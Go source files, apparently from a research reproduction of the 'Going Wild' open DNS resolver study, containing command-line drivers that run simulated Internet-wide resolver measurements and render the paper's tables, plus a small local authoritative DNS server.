		cfg.Weeks = *epochs
		*weeks = *epochs
	}
	cfg.Shards = *shards
	// Metrics are a pure side channel: stdout is byte-identical with and
	// without a registry attached.
	var reg *metrics.Registry
	if *metricsPath != "" || *debugAddr != "" {
		reg = metrics.New()
		cfg.Metrics = reg
	}
	study, err := core.NewStudy(cfg)
	if err != nil {
		fmt.Fprintln(os.Stderr, "goingwild:", err)
		os.Exit(1)
	}
	defer study.Close()
	if *debugAddr != "" {
		addr, stopDebug, err := debughttp.Serve(*debugAddr, reg)
		if err != nil {
			fmt.Fprintln(os.Stderr, "goingwild:", err)
			os.Exit(1)
		}
		defer stopDebug()
		fmt.Fprintf(os.Stderr, "goingwild: debug endpoint on http://%s\n", addr)
	}
	if *metricsPath != "" {
		defer func() {
			if err := writeMetricsSnapshot(*metricsPath, reg); err != nil {
				fmt.Fprintln(os.Stderr, "goingwild:", err)
			}
		}()
	}
	if *progress {
		// Stage events go to stderr so stdout stays byte-identical with
		// and without -progress (the observer is a side channel only).
		study.Observer = stageProgress("goingwild")
		if reg != nil {
			stopProg := metrics.StartProgress(os.Stderr, scanner.SystemClock, 2*time.Second, reg, nil)
			defer stopProg()
		}
	}
	scale := analysis.Scale(study.World.ScaleFactor())

	// -shard i/M is the out-of-process sharding mode: run exactly one
	// census shard of the -week sweep, write its artifact, and exit.
	// cmd/wildmerge recombines the M artifacts into the unsharded census.
	if *shardSpec != "" {
		if err := runShard(ctx, study, *week, *shardSpec, *shardOut); err != nil {
			fmt.Fprintln(os.Stderr, "goingwild:", err)
			os.Exit(1)
		}
		return
	}

	want := map[string]bool{}
	for _, e := range strings.Split(*exps, ",") {
		want[strings.TrimSpace(e)] = true
	}
	all := want["all"]
	fail := func(err error) {
		fmt.Fprintln(os.Stderr, "goingwild:", err)
		os.Exit(1)
	}

	// census is not part of "all": it exists for the sharding workflow
	// (its output is what wildmerge must reproduce byte-for-byte).
	if want["census"] {
		res, err := study.SweepAtContext(ctx, *week)
		if err != nil {
			fail(err)
		}
		fmt.Print(shardio.RenderCensus(res))
	}
	if all || want["fig1"] || want["table1"] || want["table2"] {
		// Under -epochs the series runs through the streaming epoch
		// engine; the rendered tables below are byte-identical to the
		// batch path, with the live per-epoch view on stderr.
		var series *churn.Series
		var err error
		if *epochs > 0 {
			var live func(core.EpochView)
			if *progress {
				live = func(v core.EpochView) {
					fmt.Fprint(os.Stderr, analysis.RenderEpochDelta(v.Obs, v.Delta, scale, v.Lag))
				}
			}
			series, err = study.RunWeeklySeriesStreamContext(ctx, live)
		} else {
			series, err = study.RunWeeklySeriesContext(ctx)
		}
		if err != nil {
			fail(err)
		}
		if all || want["fig1"] {
			fmt.Println(analysis.RenderFigure1(series, scale))
		}
		if all || want["table1"] {
			fmt.Println(analysis.RenderTable1(series, scale, 10))
		}
		if all || want["table2"] {
			fmt.Println(analysis.RenderTable2(series, scale))
		}
	}
	if all || want["table3"] {
		survey, n, err := study.RunChaosContext(ctx, *week)
		if err != nil {
			fail(err)
		}
		fmt.Printf("CHAOS scan over %d resolvers\n", n)
		fmt.Println(analysis.RenderTable3(survey, 10))
	}
	if all || want["table4"] {
		survey, err := study.RunDevicesContext(ctx, *week)
		if err != nil {
			fail(err)
		}
		fmt.Println(analysis.RenderTable4(survey))
	}
	if all || want["fig2"] {
		cohort, err := study.RunCohortStudyContext(ctx, min(cfg.Weeks, 12))
		if err != nil {
			fail(err)
		}
		fmt.Println(analysis.RenderFigure2(cohort))
	}
	if all || want["util"] {
		res, err := study.RunUtilizationContext(ctx, *week)
		if err != nil {
			fail(err)
		}
		fmt.Println(analysis.RenderUtilization(res))
	}
	if all || want["verify"] {
		v, err := study.RunVerificationContext(ctx, *week)
		if err != nil {
			fail(err)
		}
		fmt.Printf("Verification scan (§2.2): primary %d, secondary %d, only-secondary %d (missed NOERROR %.2f%%)\n\n",
			v.Primary, v.Secondary, v.OnlySecondary, 100*v.MissedNOERRORShare)
	}
	if all || want["amp"] {
		survey, n, err := study.RunAmplificationContext(ctx, *week, "chase.com")
		if err != nil {
			fail(err)
		}
		fmt.Println(analysis.RenderAmplification(survey, n))
	}
	if all || want["dnssec"] {
		for _, name := range []string{"wikileaks.org", "facebook.com"} {
			race, err := study.RunDNSSECRaceContext(ctx, *week, "CN", name)
			if err != nil {
				fail(err)
			}
			fmt.Println(analysis.RenderDNSSECRace(race))
		}
	}
	if all || want["popularity"] {
		est, err := study.RunPopularityContext(ctx, *week)
		if err != nil {
			fail(err)
		}
		fmt.Println(analysis.RenderPopularity(est, 10))
	}
	if all || want["netalyzr"] {
		fmt.Println(analysis.RenderNetalyzr(study.RunNetalyzr(*week, 500)))
	}
	if all || want["domains"] || want["fig4"] || want["cases"] || want["table5"] || want["pipeline"] || *export != "" {
		res, err := study.RunDomainStudyContext(ctx, *week, nil)
		if err != nil {
			fail(err)
		}
		if *export != "" {
			if err := exportDatasets(ctx, *export, study, res, *week); err != nil {
				fail(err)
			}
			fmt.Printf("datasets exported to %s\n\n", *export)
		}
		if all || want["pipeline"] {
			fmt.Println("Processing chain (Figure 3):")
			for _, st := range res.StageTrace {
				fmt.Printf("  %-26s %d\n", st.Stage, st.Count)
			}
			fmt.Println()
		}
		if all || want["domains"] {
			fmt.Println(analysis.RenderPrefilter(res.Pre))
		}
		if all || want["table5"] || want["domains"] {
			fmt.Println(analysis.RenderTable5(res.Report.Table5, domains.AllCategories))
		}
		if all || want["fig4"] {
			fmt.Println(analysis.RenderFigure4(res.Fig4))
		}
		if all || want["cases"] {
			fmt.Println(analysis.RenderCaseStudies(&res.Report.Cases, scale))
		}
	}
	// A clean run prints nothing here, so stdout stays byte-identical.
	if len(study.Degraded) > 0 {
		fmt.Println("Degraded stages (best-effort failures absorbed):")
		for _, d := range study.Degraded {
			fmt.Printf("  %-26s %s\n", d.Stage, d.Err)
		}
		fmt.Println()
	}
}

// runShard executes census shard i/M of the week's sweep and writes its
// artifact for cmd/wildmerge.
func runShard(ctx context.Context, study *core.Study, week int, spec, out string) error {
	var shard, of int
	if n, err := fmt.Sscanf(spec, "%d/%d", &shard, &of); n != 2 || err != nil {
		return fmt.Errorf("bad -shard %q, want i/M (e.g. 0/4)", spec)
	}
	if of < 1 || shard < 0 || shard >= of {
		return fmt.Errorf("-shard %d/%d out of range", shard, of)
	}
	if out == "" {
		return fmt.Errorf("-shard requires -shard-out")
	}
	res, err := study.SweepShardAt(ctx, week, shard, of)
	if err != nil {
		return err
	}
	cfg := study.Cfg
	prov := shardio.Provenance{Order: cfg.Order, Seed: cfg.Seed, ScanSeed: cfg.ScanSeed, Week: week}
	if err := shardio.WriteFile(out, shardio.FromSweep(prov, shard, of, res)); err != nil {
		return err
	}
	fmt.Fprintf(os.Stderr, "goingwild: shard %d/%d probed %d targets, %d responders -> %s\n",
		shard, of, res.Probed, res.Total(), out)
	return nil
}

// stageProgress renders pipeline events as one stderr line per edge.
func stageProgress(prog string) pipeline.Observer {
	return func(ev pipeline.StageEvent) {
		switch ev.Kind {
		case pipeline.StageStart:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s start\n", prog, ev.Stage)
		case pipeline.StageDone:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s done  (%s)", prog, ev.Stage, ev.Elapsed)
			for _, c := range ev.Counts {
				fmt.Fprintf(os.Stderr, "  %s=%d", c.Name, c.Value)
			}
			fmt.Fprintln(os.Stderr)
		case pipeline.StageFailed:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s failed: %v\n", prog, ev.Stage, ev.Err)
		case pipeline.StageDegraded:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s degraded: %v\n", prog, ev.Stage, ev.Err)
		case pipeline.StageSkipped:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s skipped\n", prog, ev.Stage)
		}
	}
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}

// writeMetricsSnapshot writes the registry's final snapshot as JSON.
func writeMetricsSnapshot(path string, reg *metrics.Registry) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := reg.Snapshot().WriteJSON(f); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

// exportDatasets writes the week's sweep and tuple datasets as JSONL.
func exportDatasets(ctx context.Context, dir string, study *core.Study, res *core.DomainStudyResult, week int) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	cfg := study.Cfg
	manifest, err := os.Create(filepath.Join(dir, "manifest.json"))
	if err != nil {
		return err
	}
	defer manifest.Close()
	if err := dataset.WriteManifest(manifest, dataset.Manifest{
		Paper:     "Going Wild: Large-Scale Classification of Open DNS Resolvers (IMC 2015)",
		Order:     cfg.Order,
		Seed:      cfg.Seed,
		ScanSeed:  cfg.ScanSeed,
		Week:      week,
		Generator: "goingwild",
	}); err != nil {
		return err
	}
	sweep, err := study.SweepAtContext(ctx, week)
	if err != nil {
		return err
	}
	sweepFile, err := os.Create(filepath.Join(dir, "sweep.jsonl"))
	if err != nil {
		return err
	}
	defer sweepFile.Close()
	if err := dataset.WriteSweep(sweepFile, sweep); err != nil {
		return err
	}
	tupleFile, err := os.Create(filepath.Join(dir, "tuples.jsonl"))
	if err != nil {
		return err
	}
	defer tupleFile.Close()
	return dataset.WriteTuples(tupleFile, res.Scan, res.Pre)
}
