// Command goingwild runs the full reproduction pipeline against a
// simulated IPv4 Internet and prints the paper's tables and figures.
//
// Usage:
//
//	goingwild -order 18 -exp all
//	goingwild -order 20 -exp fig1,table3,table5 -weeks 55
//	goingwild -order 20 -exp all -progress
//	goingwild -order 20 -exp all -checkpoint run.ckpt   # crash-safe
//	goingwild -order 20 -exp all -checkpoint run.ckpt -resume
//
// With -checkpoint, progress is saved crash-atomically after every
// completed output section, every committed weekly epoch, and every
// sweep rendezvous; a killed run restarted with -resume replays the
// finished sections byte-for-byte and picks up mid-scan, so the final
// stdout is identical to an uninterrupted run. The first SIGINT drains
// to the next safe point, checkpoints, and exits with status 3; a
// second SIGINT aborts hard.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"time"

	"goingwild/internal/analysis"
	"goingwild/internal/checkpoint"
	"goingwild/internal/churn"
	"goingwild/internal/core"
	"goingwild/internal/dataset"
	"goingwild/internal/debughttp"
	"goingwild/internal/domains"
	"goingwild/internal/metrics"
	"goingwild/internal/pipeline"
	"goingwild/internal/scanner"
	"goingwild/internal/shardio"
)

func main() {
	var (
		order       = flag.Uint("order", 18, "address-space width in bits (14–32)")
		seed        = flag.Uint64("seed", 0x60176A11D, "world seed")
		weeks       = flag.Int("weeks", 12, "weekly scans for the longitudinal study")
		epochs      = flag.Int("epochs", 0, "stream the weekly series incrementally as N weekly epochs (implies -weeks N; 0 = batch); stdout is byte-identical either way")
		exps        = flag.String("exp", "all", "comma-separated experiments: census,fig1,table1,table2,table3,table4,fig2,util,verify,domains,fig4,cases,pipeline,amp,dnssec,popularity")
		week        = flag.Int("week", 50, "study week for the point-in-time experiments")
		export      = flag.String("export", "", "directory to export JSONL datasets into")
		progress    = flag.Bool("progress", false, "print per-stage pipeline events to stderr")
		chaos       = flag.String("chaos", "", "fault-injection profile (clean, lossy, hostile, flaky); empty injects nothing")
		shards      = flag.Int("shards", 0, "run every sweep as N in-process leapfrog shard workers (0/1 = unsharded; results identical)")
		shardSpec   = flag.String("shard", "", "run only census shard i/M of the -week sweep and exit (e.g. -shard 0/4); requires -shard-out")
		shardOut    = flag.String("shard-out", "", "write the -shard census artifact (JSON) to this file, for cmd/wildmerge")
		ckptDir     = flag.String("checkpoint", "", "directory for crash-safe checkpoints; progress is saved there at every safe point")
		resume      = flag.Bool("resume", false, "resume from the newest checkpoint in -checkpoint instead of starting over")
		metricsPath = flag.String("metrics", "", "write a JSON metrics snapshot to this file at exit")
		debugAddr   = flag.String("debug-addr", "", "serve expvar/pprof/metrics over HTTP on this address (e.g. localhost:6060)")
	)
	flag.Parse()

	fail := func(err error) {
		if runnerStopped(err) {
			fmt.Fprintln(os.Stderr, "goingwild: checkpoint saved; resume with -resume")
			os.Exit(3)
		}
		fmt.Fprintln(os.Stderr, "goingwild:", err)
		os.Exit(1)
	}
	if *resume && *ckptDir == "" {
		fail(fmt.Errorf("-resume requires -checkpoint"))
	}
	if *ckptDir != "" && *shardSpec != "" {
		fail(fmt.Errorf("-checkpoint does not apply to -shard runs; checkpoint the merged run instead"))
	}

	// The fingerprint covers every flag that shapes stdout, so a resume
	// under different flags is refused instead of splicing two studies.
	fingerprint := fmt.Sprintf("goingwild order=%d seed=%#x weeks=%d epochs=%d exp=%s week=%d chaos=%s shards=%d export=%s",
		*order, *seed, *weeks, *epochs, *exps, *week, *chaos, *shards, *export)
	var runner *checkpoint.Runner
	var ctx context.Context
	if *ckptDir != "" {
		r, err := checkpoint.OpenRun(*ckptDir, *resume, fingerprint, os.Stdout, os.Stderr)
		if err != nil {
			fail(err)
		}
		runner = r
		// Two-phase interrupts: the first SIGINT drains to the next safe
		// point and checkpoints (surfacing as ErrStopped), the second
		// cancels hard.
		var cancel context.CancelFunc
		ctx, cancel = context.WithCancel(context.Background())
		defer cancel()
		defer runner.InstallSignals(cancel)()
	} else {
		// SIGINT cancels the context; every study checkpoint honors it, so
		// a Ctrl-C stops the run at the next stage boundary or send batch.
		var stop context.CancelFunc
		ctx, stop = signal.NotifyContext(context.Background(), os.Interrupt)
		defer stop()
	}

	cfg := core.DefaultConfig(*order)
	if *chaos != "" {
		c, err := core.ChaosProfileConfig(*order, *chaos)
		if err != nil {
			fail(err)
		}
		cfg = c
	}
	cfg.Seed = *seed
	cfg.Weeks = *weeks
	if *epochs > 0 {
		cfg.Weeks = *epochs
		*weeks = *epochs
	}
	cfg.Shards = *shards
	// Metrics are a pure side channel: stdout is byte-identical with and
	// without a registry attached.
	var reg *metrics.Registry
	if *metricsPath != "" || *debugAddr != "" {
		reg = metrics.New()
		cfg.Metrics = reg
	}
	study, err := core.NewStudy(cfg)
	if err != nil {
		fail(err)
	}
	defer study.Close()
	if *debugAddr != "" {
		addr, stopDebug, err := debughttp.Serve(*debugAddr, reg)
		if err != nil {
			fail(err)
		}
		defer func() {
			if err := stopDebug(); err != nil {
				fmt.Fprintln(os.Stderr, "goingwild: debug endpoint:", err)
			}
		}()
		fmt.Fprintf(os.Stderr, "goingwild: debug endpoint on http://%s\n", addr)
	}
	if *metricsPath != "" {
		defer func() {
			if err := writeMetricsSnapshot(*metricsPath, reg); err != nil {
				fmt.Fprintln(os.Stderr, "goingwild:", err)
			}
		}()
	}
	if *progress {
		// Stage events go to stderr so stdout stays byte-identical with
		// and without -progress (the observer is a side channel only).
		study.Observer = stageProgress("goingwild")
		if reg != nil {
			stopProg := metrics.StartProgress(os.Stderr, scanner.SystemClock, 2*time.Second, reg, nil)
			defer stopProg()
		}
	}
	scale := analysis.Scale(study.World.ScaleFactor())

	// -shard i/M is the out-of-process sharding mode: run exactly one
	// census shard of the -week sweep, write its artifact, and exit.
	// cmd/wildmerge recombines the M artifacts into the unsharded census.
	if *shardSpec != "" {
		if err := runShard(ctx, study, *week, *shardSpec, *shardOut); err != nil {
			fail(err)
		}
		return
	}

	want := map[string]bool{}
	for _, e := range strings.Split(*exps, ",") {
		want[strings.TrimSpace(e)] = true
	}
	all := want["all"]
	run := sectioned(runner, study)

	// The weekly series is shared by fig1/table1/table2 and computed once,
	// lazily, inside the first section that needs it. Under -checkpoint it
	// runs through the resumable epoch stream (byte-identical to the batch
	// path); a resume whose cursor already covers every week replays the
	// checkpointed tracker without scanning at all.
	var series *churn.Series
	getSeries := func() (*churn.Series, error) {
		if series != nil {
			return series, nil
		}
		var live func(core.EpochView)
		if *progress {
			live = func(v core.EpochView) {
				fmt.Fprint(os.Stderr, analysis.RenderEpochDelta(v.Obs, v.Delta, scale, v.Lag))
			}
		}
		var err error
		switch {
		case runner != nil:
			series, err = study.RunWeeklySeriesResumeContext(ctx, runner, live)
		case *epochs > 0:
			series, err = study.RunWeeklySeriesStreamContext(ctx, live)
		default:
			series, err = study.RunWeeklySeriesContext(ctx)
		}
		return series, err
	}

	// census is not part of "all": it exists for the sharding workflow
	// (its output is what wildmerge must reproduce byte-for-byte).
	if want["census"] {
		if err := run("census", func(w io.Writer) error {
			res, err := resumableSweep(ctx, study, runner, "census-sweep", *week)
			if err != nil {
				return err
			}
			fmt.Fprint(w, shardio.RenderCensus(res))
			return nil
		}); err != nil {
			fail(err)
		}
	}
	if all || want["fig1"] {
		if err := run("fig1", func(w io.Writer) error {
			s, err := getSeries()
			if err != nil {
				return err
			}
			fmt.Fprintln(w, analysis.RenderFigure1(s, scale))
			return nil
		}); err != nil {
			fail(err)
		}
	}
	if all || want["table1"] {
		if err := run("table1", func(w io.Writer) error {
			s, err := getSeries()
			if err != nil {
				return err
			}
			fmt.Fprintln(w, analysis.RenderTable1(s, scale, 10))
			return nil
		}); err != nil {
			fail(err)
		}
	}
	if all || want["table2"] {
		if err := run("table2", func(w io.Writer) error {
			s, err := getSeries()
			if err != nil {
				return err
			}
			fmt.Fprintln(w, analysis.RenderTable2(s, scale))
			return nil
		}); err != nil {
			fail(err)
		}
	}
	if all || want["table3"] {
		if err := run("table3", func(w io.Writer) error {
			survey, n, err := study.RunChaosContext(ctx, *week)
			if err != nil {
				return err
			}
			fmt.Fprintf(w, "CHAOS scan over %d resolvers\n", n)
			fmt.Fprintln(w, analysis.RenderTable3(survey, 10))
			return nil
		}); err != nil {
			fail(err)
		}
	}
	if all || want["table4"] {
		if err := run("table4", func(w io.Writer) error {
			survey, err := study.RunDevicesContext(ctx, *week)
			if err != nil {
				return err
			}
			fmt.Fprintln(w, analysis.RenderTable4(survey))
			return nil
		}); err != nil {
			fail(err)
		}
	}
	if all || want["fig2"] {
		if err := run("fig2", func(w io.Writer) error {
			cohort, err := study.RunCohortStudyContext(ctx, min(cfg.Weeks, 12))
			if err != nil {
				return err
			}
			fmt.Fprintln(w, analysis.RenderFigure2(cohort))
			return nil
		}); err != nil {
			fail(err)
		}
	}
	if all || want["util"] {
		if err := run("util", func(w io.Writer) error {
			res, err := study.RunUtilizationContext(ctx, *week)
			if err != nil {
				return err
			}
			fmt.Fprintln(w, analysis.RenderUtilization(res))
			return nil
		}); err != nil {
			fail(err)
		}
	}
	if all || want["verify"] {
		if err := run("verify", func(w io.Writer) error {
			v, err := study.RunVerificationContext(ctx, *week)
			if err != nil {
				return err
			}
			fmt.Fprintf(w, "Verification scan (§2.2): primary %d, secondary %d, only-secondary %d (missed NOERROR %.2f%%)\n\n",
				v.Primary, v.Secondary, v.OnlySecondary, 100*v.MissedNOERRORShare)
			return nil
		}); err != nil {
			fail(err)
		}
	}
	if all || want["amp"] {
		if err := run("amp", func(w io.Writer) error {
			survey, n, err := study.RunAmplificationContext(ctx, *week, "chase.com")
			if err != nil {
				return err
			}
			fmt.Fprintln(w, analysis.RenderAmplification(survey, n))
			return nil
		}); err != nil {
			fail(err)
		}
	}
	if all || want["dnssec"] {
		if err := run("dnssec", func(w io.Writer) error {
			for _, name := range []string{"wikileaks.org", "facebook.com"} {
				race, err := study.RunDNSSECRaceContext(ctx, *week, "CN", name)
				if err != nil {
					return err
				}
				fmt.Fprintln(w, analysis.RenderDNSSECRace(race))
			}
			return nil
		}); err != nil {
			fail(err)
		}
	}
	if all || want["popularity"] {
		if err := run("popularity", func(w io.Writer) error {
			est, err := study.RunPopularityContext(ctx, *week)
			if err != nil {
				return err
			}
			fmt.Fprintln(w, analysis.RenderPopularity(est, 10))
			return nil
		}); err != nil {
			fail(err)
		}
	}
	if all || want["netalyzr"] {
		if err := run("netalyzr", func(w io.Writer) error {
			fmt.Fprintln(w, analysis.RenderNetalyzr(study.RunNetalyzr(*week, 500)))
			return nil
		}); err != nil {
			fail(err)
		}
	}
	if all || want["domains"] || want["fig4"] || want["cases"] || want["table5"] || want["pipeline"] || *export != "" {
		if err := run("domains", func(w io.Writer) error {
			res, err := study.RunDomainStudyContext(ctx, *week, nil)
			if err != nil {
				return err
			}
			if *export != "" {
				if err := exportDatasets(ctx, *export, study, res, *week); err != nil {
					return err
				}
				fmt.Fprintf(w, "datasets exported to %s\n\n", *export)
			}
			if all || want["pipeline"] {
				fmt.Fprintln(w, "Processing chain (Figure 3):")
				for _, st := range res.StageTrace {
					fmt.Fprintf(w, "  %-26s %d\n", st.Stage, st.Count)
				}
				fmt.Fprintln(w)
			}
			if all || want["domains"] {
				fmt.Fprintln(w, analysis.RenderPrefilter(res.Pre))
			}
			if all || want["table5"] || want["domains"] {
				fmt.Fprintln(w, analysis.RenderTable5(res.Report.Table5, domains.AllCategories))
			}
			if all || want["fig4"] {
				fmt.Fprintln(w, analysis.RenderFigure4(res.Fig4))
			}
			if all || want["cases"] {
				fmt.Fprintln(w, analysis.RenderCaseStudies(&res.Report.Cases, scale))
			}
			return nil
		}); err != nil {
			fail(err)
		}
	}
	// A clean run prints nothing here, so stdout stays byte-identical.
	if err := run("degraded", func(w io.Writer) error {
		printDegraded(w, study)
		return nil
	}); err != nil {
		fail(err)
	}
}

// runnerStopped reports whether err is the orderly first-interrupt stop
// (checkpoint saved, exit 3) rather than a failure.
func runnerStopped(err error) bool {
	return errors.Is(err, checkpoint.ErrStopped)
}

// sectioned returns the seam every stdout block goes through: direct
// execution without -checkpoint, journaled crash-safe sections with it.
// Each checkpointed section also persists the degradation entries it
// contributed, so a resumed run's final "Degraded stages" block matches
// the uninterrupted run even when the degrading section is replayed
// from the journal instead of re-executed.
func sectioned(runner *checkpoint.Runner, study *core.Study) func(name string, fn func(w io.Writer) error) error {
	if runner == nil {
		return func(name string, fn func(w io.Writer) error) error { return fn(os.Stdout) }
	}
	return func(name string, fn func(w io.Writer) error) error {
		doc := "degraded:" + name
		if runner.Done(name) {
			var recs []core.DegradedStage
			if ok, err := runner.Fetch(doc, &recs); err != nil {
				return err
			} else if ok {
				study.Degraded = append(study.Degraded, recs...)
			}
			return runner.Section(name, fn)
		}
		base := len(study.Degraded)
		return runner.Section(name, func(w io.Writer) error {
			if err := fn(w); err != nil {
				return err
			}
			// Overwriting the same value makes a crash-retry idempotent.
			if delta := study.Degraded[base:]; len(delta) > 0 {
				return runner.Update(doc, delta)
			}
			return nil
		})
	}
}

// resumableSweep runs the week's census sweep through the checkpoint
// store, so a killed run restarts from its last rendezvous instead of
// from scratch. Without a runner it is the plain sweep.
func resumableSweep(ctx context.Context, study *core.Study, runner *checkpoint.Runner, doc string, week int) (*scanner.SweepResult, error) {
	if runner == nil {
		return study.SweepAtContext(ctx, week)
	}
	rc := &scanner.ResumeControl{
		Save: func(ck *scanner.SweepCheckpoint) error {
			if err := runner.Update(doc, ck); err != nil {
				return err
			}
			return runner.CheckStop()
		},
	}
	var prev scanner.SweepCheckpoint
	if ok, err := runner.Fetch(doc, &prev); err != nil {
		return nil, err
	} else if ok {
		rc.Prev = &prev
	}
	res, err := study.SweepAtResumeContext(ctx, week, rc)
	if err != nil {
		return nil, err
	}
	// The sweep is folded into its section; the document's removal
	// reaches disk with the section's own save.
	runner.Drop(doc)
	return res, nil
}

// printDegraded reports the best-effort stages whose failures the
// pipeline absorbed; a clean run prints nothing.
func printDegraded(w io.Writer, study *core.Study) {
	if len(study.Degraded) == 0 {
		return
	}
	fmt.Fprintln(w, "Degraded stages (best-effort failures absorbed):")
	for _, d := range study.Degraded {
		fmt.Fprintf(w, "  %-26s %s\n", d.Stage, d.Err)
	}
	fmt.Fprintln(w)
}

// runShard executes census shard i/M of the week's sweep and writes its
// artifact for cmd/wildmerge.
func runShard(ctx context.Context, study *core.Study, week int, spec, out string) error {
	var shard, of int
	if n, err := fmt.Sscanf(spec, "%d/%d", &shard, &of); n != 2 || err != nil {
		return fmt.Errorf("bad -shard %q, want i/M (e.g. 0/4)", spec)
	}
	if of < 1 || shard < 0 || shard >= of {
		return fmt.Errorf("-shard %d/%d out of range", shard, of)
	}
	if out == "" {
		return fmt.Errorf("-shard requires -shard-out")
	}
	res, err := study.SweepShardAt(ctx, week, shard, of)
	if err != nil {
		return err
	}
	cfg := study.Cfg
	prov := shardio.Provenance{Order: cfg.Order, Seed: cfg.Seed, ScanSeed: cfg.ScanSeed, Week: week}
	if err := shardio.WriteFile(out, shardio.FromSweep(prov, shard, of, res)); err != nil {
		return err
	}
	fmt.Fprintf(os.Stderr, "goingwild: shard %d/%d probed %d targets, %d responders -> %s\n",
		shard, of, res.Probed, res.Total(), out)
	return nil
}

// stageProgress renders pipeline events as one stderr line per edge.
func stageProgress(prog string) pipeline.Observer {
	return func(ev pipeline.StageEvent) {
		switch ev.Kind {
		case pipeline.StageStart:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s start\n", prog, ev.Stage)
		case pipeline.StageDone:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s done  (%s)", prog, ev.Stage, ev.Elapsed)
			for _, c := range ev.Counts {
				fmt.Fprintf(os.Stderr, "  %s=%d", c.Name, c.Value)
			}
			fmt.Fprintln(os.Stderr)
		case pipeline.StageFailed:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s failed: %v\n", prog, ev.Stage, ev.Err)
		case pipeline.StageDegraded:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s degraded: %v\n", prog, ev.Stage, ev.Err)
		case pipeline.StageSkipped:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s skipped\n", prog, ev.Stage)
		}
	}
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}

// writeMetricsSnapshot writes the registry's final snapshot as JSON.
func writeMetricsSnapshot(path string, reg *metrics.Registry) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := reg.Snapshot().WriteJSON(f); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

// exportDatasets writes the week's sweep and tuple datasets as JSONL.
func exportDatasets(ctx context.Context, dir string, study *core.Study, res *core.DomainStudyResult, week int) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	cfg := study.Cfg
	manifest, err := os.Create(filepath.Join(dir, "manifest.json"))
	if err != nil {
		return err
	}
	defer manifest.Close()
	if err := dataset.WriteManifest(manifest, dataset.Manifest{
		Paper:     "Going Wild: Large-Scale Classification of Open DNS Resolvers (IMC 2015)",
		Order:     cfg.Order,
		Seed:      cfg.Seed,
		ScanSeed:  cfg.ScanSeed,
		Week:      week,
		Generator: "goingwild",
	}); err != nil {
		return err
	}
	sweep, err := study.SweepAtContext(ctx, week)
	if err != nil {
		return err
	}
	sweepFile, err := os.Create(filepath.Join(dir, "sweep.jsonl"))
	if err != nil {
		return err
	}
	defer sweepFile.Close()
	if err := dataset.WriteSweep(sweepFile, sweep); err != nil {
		return err
	}
	tupleFile, err := os.Create(filepath.Join(dir, "tuples.jsonl"))
	if err != nil {
		return err
	}
	defer tupleFile.Close()
	return dataset.WriteTuples(tupleFile, res.Scan, res.Pre)
}
