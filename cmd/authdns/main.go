// Command authdns is the measurement team's authoritative name server:
// it serves a zone parsed from an RFC 1035 master file over real UDP —
// the role the authors' AuthNS plays for the ground-truth domain and the
// hex-IP-encoded scan names (§3.2/§3.3, wildcarded in the zone).
//
// Usage:
//
//	authdns -zone zones/dnsstudy.zone -addr 127.0.0.1:5355 -verbose
//	authdns -addr 127.0.0.1:5355          # serves the built-in study zone
//
// Test with any stub resolver, e.g.:
//
//	dig @127.0.0.1 -p 5355 gt.dnsstudy.example.edu A
package main

import (
	"flag"
	"fmt"
	"log"
	"os"
	"os/signal"
	"strings"
	"syscall"

	"goingwild/internal/authdns"
	"goingwild/internal/zonefile"
)

// defaultZone is the study's own zone: SOA/NS scaffolding, the
// ground-truth name, and the wildcard that answers every hex-IP-encoded
// scan query.
const defaultZone = `
$ORIGIN dnsstudy.example.edu.
$TTL 3600
@       IN SOA ns1 hostmaster ( 2015010101 7200 900 1209600 86400 )
@       IN NS  ns1
@       IN NS  ns2
ns1     IN A   192.0.2.1
ns2     IN A   192.0.2.2
gt      IN A   192.0.2.10
gt      IN TXT "going-wild ground truth"
*.scan  IN A   192.0.2.99
`

func main() {
	var (
		zonePath = flag.String("zone", "", "zone master file (empty = built-in study zone)")
		addr     = flag.String("addr", "127.0.0.1:5355", "UDP listen address")
		verbose  = flag.Bool("verbose", false, "log each query")
	)
	flag.Parse()

	var zone *zonefile.Zone
	var err error
	if *zonePath == "" {
		zone, err = zonefile.Parse(strings.NewReader(defaultZone))
	} else {
		var f *os.File
		f, err = os.Open(*zonePath)
		if err == nil {
			defer f.Close()
			zone, err = zonefile.Parse(f)
		}
	}
	if err != nil {
		log.Fatalf("authdns: %v", err)
	}

	srv, err := authdns.Serve(zone, *addr)
	if err != nil {
		log.Fatalf("authdns: %v", err)
	}
	defer srv.Close()
	if *verbose {
		srv.Log = log.Printf
	}
	fmt.Printf("authdns: serving %s (%d records) on %s\n",
		zone.Origin, len(zone.Records), srv.Addr())

	sig := make(chan os.Signal, 1)
	signal.Notify(sig, os.Interrupt, syscall.SIGTERM)
	<-sig
	fmt.Printf("authdns: %d queries served\n", srv.Queries())
}
