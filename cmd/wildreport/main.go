// Command wildreport regenerates every table and figure of the paper and
// emits the paper-vs-measured comparison record (the data behind
// EXPERIMENTS.md).
//
// Usage:
//
//	wildreport -order 18 -weeks 55            # full run, text output
//	wildreport -order 18 -markdown            # markdown comparison table
//	wildreport -order 20 -progress            # stage events on stderr
//	wildreport -order 16 -chaos hostile       # run under injected faults
//	wildreport -order 16 -epochs 8 -progress  # stream the weekly series, live churn on stderr
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"time"

	"goingwild/internal/analysis"
	"goingwild/internal/churn"
	"goingwild/internal/core"
	"goingwild/internal/debughttp"
	"goingwild/internal/domains"
	"goingwild/internal/metrics"
